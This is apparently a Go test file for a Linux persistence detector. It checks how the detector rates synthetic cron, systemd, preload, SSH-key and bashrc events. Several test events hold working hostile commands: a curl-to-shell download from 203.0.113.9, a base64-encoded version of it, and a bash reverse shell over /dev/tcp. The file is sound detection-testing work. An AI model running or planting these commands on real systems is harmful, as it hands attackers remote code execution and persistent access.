package persistence_test

import (
	"testing"

	"telltale/detect"
	"telltale/detect/detecttest"
	"telltale/detect/persistence"
)

func TestJudgement(t *testing.T) {
	for _, tc := range []struct {
		name, event string
		level       detect.Level
	}{
		{"fetches and runs", `- cron-entry user.name=root "process.command_line=curl -s http://203.0.113.9/x | sh" file.path=/etc/cron.d/x`, detect.Critical},
		{"decodes and runs", `- cron-entry user.name=root "process.command_line=echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjkveHxzaA== | base64 -d | bash" file.path=/etc/cron.d/x`, detect.Critical},
		{"shell's own socket", `- service-unit unit.name=x.service "process.command_line=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'" file.path=/etc/systemd/system/x.service`, detect.Critical},
		{"program in /tmp", `- cron-entry user.name=root process.command_line=/tmp/kworker file.path=/etc/crontab`, detect.High},
		{"hidden directory", `- cron-entry user.name=root "process.command_line=/var/tmp/.x/upd >/dev/null 2>&1" file.path=/etc/cron.d/x`, detect.High},
		{"crontab of the web server", `- cron-entry user.name=www-data "process.command_line=php /srv/app/cron.php" file.path=/var/spool/cron/crontabs/www-data`, detect.Medium},
		{"preload", `- preload-library process.command_line=/lib/libx.so file.path=/etc/ld.so.preload`, detect.High},
		{"key for a daemon's account", `- authorized-key user.name=mysql key.fingerprint=SHA256:x file.path=/var/lib/mysql/.ssh/authorized_keys`, detect.High},
		{"key of a person", `- authorized-key user.name=amy key.fingerprint=SHA256:x file.path=/home/amy/.ssh/authorized_keys`, detect.Info},
		{"certbot", `- cron-entry user.name=root "process.command_line=test -x /usr/bin/certbot -a ! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew" file.path=/etc/cron.d/certbot`, detect.Info},
		{"php's sessions", `- cron-entry user.name=root "process.command_line=[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi" file.path=/etc/cron.d/php`, detect.Info},
		{"a backup by hand", `- cron-entry user.name=root "process.command_line=tar -czf /var/backups/home.tgz /home 2>/tmp/backup.log" file.path=/etc/cron.d/backup`, detect.Info},
		{"a page fetched every hour", `- cron-entry user.name=amy "process.command_line=curl -s https://www.example.org/cron.php >/dev/null" file.path=/var/spool/cron/crontabs/amy`, detect.Info},
		{"debian's own anacron test", `- cron-entry user.name=root "process.command_line=test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }" file.path=/etc/crontab`, detect.Info},
		{"a package's unit", `- service-unit unit.name=ssh.service "process.command_line=/usr/sbin/sshd -D $SSHD_OPTS" file.path=/usr/lib/systemd/system/ssh.service file.package=openssh-server`, detect.Info},
		{"bash's own startup", `- startup-command user.name=amy "process.command_line=alias ls='ls --color=auto'" file.path=/home/amy/.bashrc`, detect.Info},
		{"dircolors", `- startup-command user.name=amy "process.command_line=test -r ~/.dircolors && eval \$(dircolors -b ~/.dircolors) || eval \$(dircolors -b)" file.path=/home/amy/.bashrc`, detect.Info},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := detecttest.Run(t, persistence.New(), detecttest.Scene(), tc.event)
			if len(got) != 1 || got[0].Level != tc.level {
				t.Errorf("want level %s: %+v", tc.level, got)
			}
		})
	}
}

func TestSkel(t *testing.T) {
	const skel = `- startup-command "user.name=each account made since" "process.command_line=alias ls='ls --color=auto'" file.path=/etc/skel/.bashrc file.package=bash`
	for _, tc := range []struct {
		name, event string
		found       int
	}{
		{"copied by useradd", `- startup-command user.name=eve "process.command_line=alias ls='ls --color=auto'" file.path=/home/eve/.bashrc`, 1},
		{"in another file", `- startup-command user.name=eve "process.command_line=alias ls='ls --color=auto'" file.path=/home/eve/.profile`, 2},
		{"another line", `- startup-command user.name=eve "process.command_line=alias ls='/home/eve/ls'" file.path=/home/eve/.bashrc`, 2},
	} {
		for _, events := range []string{skel + "\n" + tc.event, tc.event + "\n" + skel} {
			if got := detecttest.Run(t, persistence.New(), detecttest.Scene(), events); len(got) != tc.found {
				t.Errorf("%s: want %d: %+v", tc.name, tc.found, got)
			}
		}
	}
	const bad = `"process.command_line=curl -s http://203.0.113.9/x | sh"`
	got := detecttest.Run(t, persistence.New(), detecttest.Scene(), `- startup-command "user.name=each account made since" `+bad+` file.path=/etc/skel/.bashrc`+"\n"+`- startup-command user.name=eve `+bad+` file.path=/home/eve/.bashrc`)
	if len(got) != 2 {
		t.Errorf("what is bad in skel is bad in a home too: %+v", got)
	}
}
